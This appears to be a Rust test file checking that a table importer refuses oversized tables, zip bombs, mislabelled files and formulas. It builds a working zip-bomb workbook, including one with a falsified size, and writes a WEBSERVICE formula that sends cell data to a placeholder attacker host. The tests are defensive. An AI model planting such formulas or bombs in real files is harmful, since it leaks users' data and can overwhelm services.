//! Tables that are too large, or made to harm: refused with a reason, and soon.

use std::fmt::Write as _;
use std::io::{Cursor, Write as _};
use std::time::Instant;

use crosswalk::exchange::tables::open_tables;
use rust_xlsxwriter::{Formula, Workbook};
use zip::{ZipWriter, write::SimpleFileOptions};

/// The reason, and a line in the output with how long it took.
fn refused(name: &str, bytes: &[u8]) -> String {
    let start = Instant::now();
    let refused = open_tables(bytes).unwrap_err().to_string();
    super::super::report(&format!("{name}: refused after {} ms", start.elapsed().as_millis()));
    refused
}

const ROW: &str = "mail,\"emails[type eq \"\"work\"\"].value\"\n";

#[test]
fn too_many_rows_are_refused_in_every_form() {
    const REASON: &str = "the table has 100,000 rows; Crosswalk takes at most 5,000. Keep only the rows with attribute \
                          mappings, or split the table";
    assert_eq!(refused("CSV, 100,000 rows", ROW.repeat(100_000).as_bytes()), REASON);
    let html = format!("<table>{}</table>", "<tr><td>mail<td>externalId</tr>".repeat(100_000));
    assert_eq!(refused("HTML, 100,000 rows", html.as_bytes()), REASON);
    let markdown = format!("|a|b|\n|--|--|\n{}", "|mail|externalId|\n".repeat(100_000));
    assert!(refused("Markdown, 100,000 rows", markdown.as_bytes()).starts_with("the table has 100,002 rows"));
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    for row in 0..100_000 {
        sheet.write_string(row, 0, "mail").unwrap();
    }
    assert_eq!(refused("workbook, 100,000 rows", &book.save_to_buffer().unwrap()), REASON);
}

#[test]
fn too_many_columns_are_refused_in_every_form() {
    const REASON: &str = "the table has 10,000 columns; Crosswalk takes at most 200.";
    let csv = format!("{ROW}{ROW}{}a\n", "externalId,".repeat(9_999));
    assert!(refused("CSV, 10,000 columns", csv.as_bytes()).starts_with(REASON));
    let mut html = "<table><tr>".to_owned();
    for column in 0..10_000 {
        let _ = write!(html, "<td>{column}");
    }
    assert!(refused("HTML, 10,000 columns", html.as_bytes()).contains("201 columns"));
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    for column in 0..10_000 {
        sheet.write_string(0, column, "externalId").unwrap();
    }
    assert!(refused("workbook, 10,000 columns", &book.save_to_buffer().unwrap()).starts_with(REASON));
}

/// One cell at the end of a sheet would be a table of 17 billion cells.
#[test]
fn a_single_cell_far_away_is_refused() {
    let mut book = Workbook::new();
    book.add_worksheet().write_string(1_048_575, 16_383, "mail").unwrap();
    let reason = refused("workbook, one cell at its end", &book.save_to_buffer().unwrap());
    assert!(reason.starts_with("the table has 1,048,576 rows"), "{reason}");
}

/// A workbook whose sheet is 300 MB of blanks in less than 1 MB.
fn bomb() -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default();
    let relations = r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#;
    let book = r#"<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>"#;
    for (name, content) in [("xl/workbook.xml", book), ("xl/_rels/workbook.xml.rels", relations)] {
        writer.start_file(name, options).unwrap();
        writer.write_all(content.as_bytes()).unwrap();
    }
    writer.start_file("xl/worksheets/sheet1.xml", options).unwrap();
    let blanks = vec![b' '; 1024 * 1024];
    for _ in 0..300 {
        writer.write_all(&blanks).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

#[test]
fn a_zip_bomb_is_refused_before_and_while_it_is_inflated() {
    let mut bytes = bomb();
    assert!(bytes.len() < 1024 * 1024);
    let reason = refused("zip bomb", &bytes);
    assert!(reason.starts_with("the inflated workbook is 300 MB; Crosswalk takes at most 64 MB."), "{reason}");
    // The directory lies: it says that the sheet has a kilobyte.
    let (size, lie) = ((300_u32 * 1024 * 1024).to_le_bytes(), 1024_u32.to_le_bytes());
    let places: Vec<usize> =
        bytes.windows(4).enumerate().filter(|(_, window)| *window == size).map(|(at, _)| at).collect();
    assert!(!places.is_empty());
    for at in places {
        bytes[at..at + 4].copy_from_slice(&lie);
    }
    let reason = refused("zip bomb with a lie", &bytes);
    assert!(reason.contains("67,108,8") || reason.starts_with("the workbook cannot be read"), "{reason}");
}

#[test]
fn other_files_that_end_as_xlsx_are_named() {
    assert!(refused("old workbook", b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1xxxx").starts_with("this is an old workbook"));
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    writer.start_file("word/document.xml", SimpleFileOptions::default()).unwrap();
    let reason = refused("other zip", &writer.finish().unwrap().into_inner());
    assert_eq!(
        reason,
        "this is another zip file, not an Excel workbook (.xlsx). Open it in a spreadsheet and save it as .xlsx"
    );
    assert!(refused("damaged", b"PK\x03\x04nothing").starts_with("the workbook cannot be read: "));
}

/// Formulas and links are never followed: the saved texts are read, with a note.
#[test]
fn formulas_and_links_do_nothing() {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    for (row, cells) in [["Source", "Target"], ["mail", "externalId"]].into_iter().enumerate() {
        for (column, cell) in cells.into_iter().enumerate() {
            sheet.write_string(u32::try_from(row).unwrap(), u16::try_from(column).unwrap(), cell).unwrap();
        }
    }
    let call = "WEBSERVICE(\"https://evil.example/\"&A1)&'[https://evil.example/x.xlsx]S'!A1";
    sheet.write_formula(2, 0, Formula::new(call).set_result("surname")).unwrap();
    sheet.write_string(2, 1, "name.familyName").unwrap();
    let text = super::outcome(&book.save_to_buffer().unwrap());
    assert!(text.contains("note: the sheet “Sheet1” has 1 formula."), "{text}");
    assert!(text.contains("row 3 Users: Direct surname → name.familyName (exact)"), "{text}");
    assert!(!text.contains("evil"), "{text}");
}
